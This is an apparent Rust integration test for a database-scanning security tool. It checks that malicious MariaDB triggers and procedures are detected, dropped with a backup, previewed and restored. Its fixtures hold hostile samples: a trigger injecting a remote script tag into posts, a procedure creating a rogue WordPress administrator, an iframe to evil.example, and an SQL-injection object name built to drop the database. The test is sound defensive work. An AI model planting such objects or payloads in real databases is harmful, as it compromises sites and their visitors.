// SPDX-License-Identifier: GPL-2.0-only
//! Malicious database objects against a real MariaDB (a private server on a socket
//! of this test's own): found by the periodic pass, dropped by the finding's fix
//! with the CREATE statement kept, listed, previewed and restored through the API.
//! A hostile object name does not steer the drop, and an object replaced by a
//! harmless one since its finding is not dropped.

use std::{
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::Duration,
};

use integration_test::{harness::Harness, wait_for};
use serde_json::{json, Value};

const CLIENT: &str = "/usr/bin/mariadb";

/// mariadbd on a private socket, no networking, data in a temp directory.
struct Mariadb {
    child: Child,
    sock: PathBuf,
    _dir: tempfile::TempDir,
}

impl Mariadb {
    fn start() -> Option<Self> {
        let have = ["/usr/sbin/mariadbd", "/usr/bin/mariadb-install-db", CLIENT]
            .iter()
            .all(|p| Path::new(p).exists());
        if !have {
            assert!(!integration_test::feature_available(
                "MariaDB (Debian's mariadb-server)",
                Err("no mariadbd, mariadb-install-db or mariadb".into())
            ));
            return None;
        }
        let dir = tempfile::tempdir().expect("tempdir");
        let data = dir.path().join("data");
        let out = Command::new("/usr/bin/mariadb-install-db")
            .args(["--no-defaults", "--user=root", "--skip-test-db"])
            .arg("--auth-root-authentication-method=socket")
            .arg(format!("--datadir={}", data.display()))
            .output()
            .expect("mariadb-install-db");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let sock = dir.path().join("mysqld.sock");
        let child = Command::new("/usr/sbin/mariadbd")
            .args(["--no-defaults", "--user=root", "--skip-networking"])
            .arg(format!("--datadir={}", data.display()))
            .arg(format!("--socket={}", sock.display()))
            .arg(format!("--pid-file={}", dir.path().join("pid").display()))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("mariadbd");
        let m = Mariadb {
            child,
            sock,
            _dir: dir,
        };
        assert!(
            wait_for(Duration::from_secs(60), || m.sql("SELECT 1").is_ok()),
            "mariadbd answers"
        );
        Some(m)
    }

    /// Run SQL (on stdin, so DELIMITER works) and return its batch output.
    fn sql(&self, sql: &str) -> Result<String, String> {
        use std::io::Write;
        let mut c = Command::new(CLIENT)
            .arg(format!("--socket={}", self.sock.display()))
            .args(["--user=root", "--batch", "--skip-column-names"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .map_err(|e| e.to_string())?;
        c.stdin
            .take()
            .expect("stdin")
            .write_all(sql.as_bytes())
            .map_err(|e| e.to_string())?;
        let out = c.wait_with_output().map_err(|e| e.to_string())?;
        if out.status.success() {
            Ok(String::from_utf8_lossy(&out.stdout).into_owned())
        } else {
            Err(String::from_utf8_lossy(&out.stderr).into_owned())
        }
    }

    fn triggers(&self) -> String {
        self.sql("SELECT TRIGGER_NAME FROM information_schema.TRIGGERS ORDER BY 1;")
            .expect("triggers")
    }
}

impl Drop for Mariadb {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn db_findings(h: &Harness) -> Vec<Value> {
    h.findings_of("db_malicious_object")
}

fn finding_named(h: &Harness, name: &str) -> Option<Value> {
    db_findings(h)
        .into_iter()
        .find(|f| f["message"].as_str().is_some_and(|m| m.contains(name)))
}

const HOSTILE: &str = "x`; DROP DATABASE shop_wp; --";

#[test]
fn malicious_database_objects_are_dropped_with_a_backup_and_restored() {
    let Some(net) = integration_test::net_or_skip() else {
        return;
    };
    let Some(db) = Mariadb::start() else {
        return;
    };
    db.sql(&format!(
        "CREATE DATABASE shop_wp; USE shop_wp;
         CREATE TABLE wp_posts (id INT, post_content TEXT);
         CREATE TABLE wp_users (id INT, user_login TEXT);
         DELIMITER $$
         CREATE TRIGGER evil BEFORE INSERT ON wp_posts FOR EACH ROW BEGIN
           SET NEW.post_content = CONCAT(NEW.post_content, '<script src=\"//cdn.example.net/a.js\"></script>');
         END$$
         CREATE TRIGGER stamp BEFORE UPDATE ON wp_posts FOR EACH ROW BEGIN SET NEW.id = OLD.id; END$$
         CREATE PROCEDURE `{}`() BEGIN
           INSERT INTO wp_users VALUES (99, 'wpadmin2');
           SELECT 'wp_capabilities', 'a:1:{{s:13:\"administrator\";b:1;}}';
         END$$
         DELIMITER ;",
        HOSTILE.replace('`', "``")
    ))
    .expect("fixture");

    let top = format!(
        "  databases:\n    client: {CLIENT}\n    socket: {}\n    interval_secs: 1\negress:\n  enabled: false\nexec:\n  enabled: false\n",
        db.sock.display()
    );
    let h = Harness::start_with(net, "", &top);
    let admin = h.admin.clone();

    assert!(
        wait_for(Duration::from_secs(30), || db_findings(&h).len() >= 2),
        "both found: {:?}",
        db_findings(&h)
    );
    std::thread::sleep(Duration::from_secs(2));
    let all = db_findings(&h);
    assert_eq!(all.len(), 2, "the harmless trigger is not one: {all:?}");
    let evil = finding_named(&h, "`evil`").expect("evil");
    assert_eq!(evil["severity"], 2, "{evil}");
    assert_eq!(evil["has_fix"], true, "{evil}");
    assert!(
        evil["message"]
            .as_str()
            .is_some_and(|m| m.contains("injects script into pages")),
        "{evil}"
    );

    // The fix drops it and keeps the statement.
    let (s, fixed) = h.post("/api/v1/fix", json!({ "id": evil["id"] }));
    assert_eq!(s, 200, "{fixed}");
    assert_eq!(fixed["action"], "drop", "{fixed}");
    let key = fixed["backup_key"]
        .as_str()
        .expect("backup key")
        .to_string();
    assert_eq!(
        db.triggers().trim(),
        "stamp",
        "only the harmless trigger left"
    );

    // A hostile name is an identifier, never SQL: the database it names survives.
    let hostile = finding_named(&h, "DROP DATABASE").expect("hostile-named procedure");
    let (s, v) = h.post("/api/v1/fix", json!({ "id": hostile["id"] }));
    assert_eq!(s, 200, "{v}");
    assert_eq!(
        db.sql(
            "SELECT COUNT(*) FROM information_schema.ROUTINES WHERE ROUTINE_SCHEMA = 'shop_wp';"
        )
        .expect("routines")
        .trim(),
        "0"
    );
    assert!(
        db.sql("SHOW DATABASES;").expect("dbs").contains("shop_wp"),
        "shop_wp is still there"
    );

    let (s, list) = h.get("/api/v1/db-object-backups", &admin);
    assert_eq!(s, 200, "{list}");
    let list = list.as_array().expect("array").clone();
    assert_eq!(list.len(), 2, "{list:?}");
    let entry = list
        .iter()
        .find(|e| e["key"] == key.as_str())
        .expect("entry");
    assert_eq!(
        (
            &entry["schema"],
            &entry["kind"],
            &entry["name"],
            &entry["restored"],
            &entry["dropped_by"]
        ),
        (
            &json!("shop_wp"),
            &json!("trigger"),
            &json!("evil"),
            &json!(false),
            &json!("op")
        ),
        "{entry}"
    );
    assert_eq!(entry["finding_id"], evil["id"].to_string(), "{entry}");
    let (s, p) = h.get(
        &format!("/api/v1/db-object-backup-preview?key={key}"),
        &admin,
    );
    assert_eq!(s, 200, "{p}");
    assert!(
        p["preview"].as_str().is_some_and(|t| t.contains("TRIGGER")
            && t.contains("<script src=\"//cdn.example.net/a.js\"></script>")),
        "{p}"
    );
    assert_eq!(p["truncated"], false);

    // Restore replays it; a second restore is refused.
    let (s, r) = h.post("/api/v1/db-object-backup-restore", json!({ "key": key }));
    assert_eq!((s, &r["success"]), (200, &json!(true)), "{r}");
    assert_eq!(
        db.triggers().split_whitespace().collect::<Vec<_>>(),
        ["evil", "stamp"]
    );
    let body = db
        .sql(
            "SELECT ACTION_STATEMENT FROM information_schema.TRIGGERS WHERE TRIGGER_NAME = 'evil';",
        )
        .expect("body");
    assert!(body.contains("cdn.example.net"), "the same body: {body}");
    let (s, _) = h.post("/api/v1/db-object-backup-restore", json!({ "key": key }));
    assert_eq!(s, 409, "restored already");
    let (_, list) = h.get("/api/v1/db-object-backups", &admin);
    assert!(
        list.as_array()
            .expect("array")
            .iter()
            .any(|e| e["key"] == key.as_str() && e["restored"] == true),
        "{list}"
    );

    // Bad input.
    let (s, _) = h.get("/api/v1/db-object-backup-preview?key=nope", &admin);
    assert_eq!(s, 404);
    let (s, _) = h.get("/api/v1/db-object-backup-preview", &admin);
    assert_eq!(s, 400);
    let (s, _) = h.post("/api/v1/db-object-backup-restore", json!({}));
    assert_eq!(s, 400);
    let (s, _) = h.post("/api/v1/db-object-backup-restore", json!({ "key": "nope" }));
    assert_eq!(s, 404);

    // Replaced by a harmless object of the same name since its finding: not dropped.
    db.sql(
        "USE shop_wp;
         DELIMITER $$
         CREATE TRIGGER later BEFORE DELETE ON wp_posts FOR EACH ROW BEGIN
           SET @x = '<iframe src=//evil.example>';
         END$$
         DELIMITER ;",
    )
    .expect("later");
    assert!(
        wait_for(Duration::from_secs(30), || finding_named(&h, "`later`")
            .is_some()),
        "found"
    );
    let later = finding_named(&h, "`later`").expect("later");
    db.sql(
        "USE shop_wp; DROP TRIGGER later;
         CREATE TRIGGER later BEFORE DELETE ON wp_posts FOR EACH ROW SET @x = 1;",
    )
    .expect("replace");
    let (s, v) = h.post("/api/v1/fix", json!({ "id": later["id"] }));
    assert_eq!(s, 409, "{v}");
    assert!(db.triggers().contains("later"), "left alone");
}
